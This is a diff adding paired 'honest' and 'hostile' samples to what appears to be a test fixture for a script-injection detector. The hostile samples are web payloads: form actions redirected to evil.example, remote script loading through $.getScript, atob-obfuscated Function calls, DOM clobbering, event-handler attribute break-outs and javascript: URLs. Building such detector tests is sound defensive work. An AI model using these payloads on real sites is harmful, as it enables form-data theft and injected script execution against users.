@@ -23,6 +23,51 @@ const AMID = 'We wrote this page for those who are new to the project and want t
 
 const PAIRS: readonly Pair[] = [
   {
+    decision: 'a call that a sentence speaks of does not parse',
+    honest: ['Try alert("word") in the console.', 'New alert("x") in our inbox today.'],
+    hostile: ['alert("word") in console', 'try{alert("word")}catch{}', 'frames[0].alert(1)'],
+  },
+  {
+    decision: 'what is found in a page is sent elsewhere, or given markup',
+    honest: ['document.querySelector("form").action', 'document.getElementById("a").value = total'],
+    hostile: [
+      `document.querySelector('form').action='//evil.example'`,
+      'document.getElementById("a").innerHTML = "<b>x"',
+      `$.getScript('//evil.example')`,
+      `Function(atob('YWxlcnQoMSk='))()`,
+    ],
+  },
+  {
+    decision: 'a button has no form of a stranger',
+    honest: ['<button formaction="/orders/save">Save</button>'],
+    hostile: [
+      '<button form=f formaction=//evil.example>x',
+      `">x<input type=image formaction='https://evil.example/'`,
+    ],
+  },
+  {
+    decision: 'two anchors of one id are a list to script (HTML §7.2.2.3)',
+    honest: ['<a id="a"></a><a id="b" name="b" href="#a">', '<a id="a" name="a"></a><a id="a" name="a"></a>'],
+    hostile: ['<a id=config><a id=config name=url href=//evil.example/x.js>'],
+  },
+  {
+    decision: 'a break-out ends in a comment that nothing closes',
+    honest: [`path "src/*" and more`],
+    hostile: [`q1"};;print()/*`, `name';self[/*x*/'alert'](1)/*`, 'x onblur=a=alert,a(1) '],
+  },
+  {
+    decision: 'a span of code within a sentence is no link',
+    honest: [
+      'A scheme is never decoded, so that an input such as `%6Aavascript:alert(1)` is reported as malformed by all of these calls.',
+    ],
+    hostile: ['`javascript:alert(1)`', 'javascript:alert(1)', 'x=`javascript:alert(1)`'],
+  },
+  {
+    decision: 'queries assign with a capital and blanks, attributes without',
+    honest: ['T | summarize A = count(), "b", Online = min(y)'],
+    hostile: ['" onfocus=min(y) x="', '" onfocus = alert(y) x="'],
+  },
+  {
     decision: 'a declaration of an entity has a name',
     honest: [
       '## Regarding `<!DOCTYPE` and `<!ENTITY`\n\nThe parser handles the basic entities.',
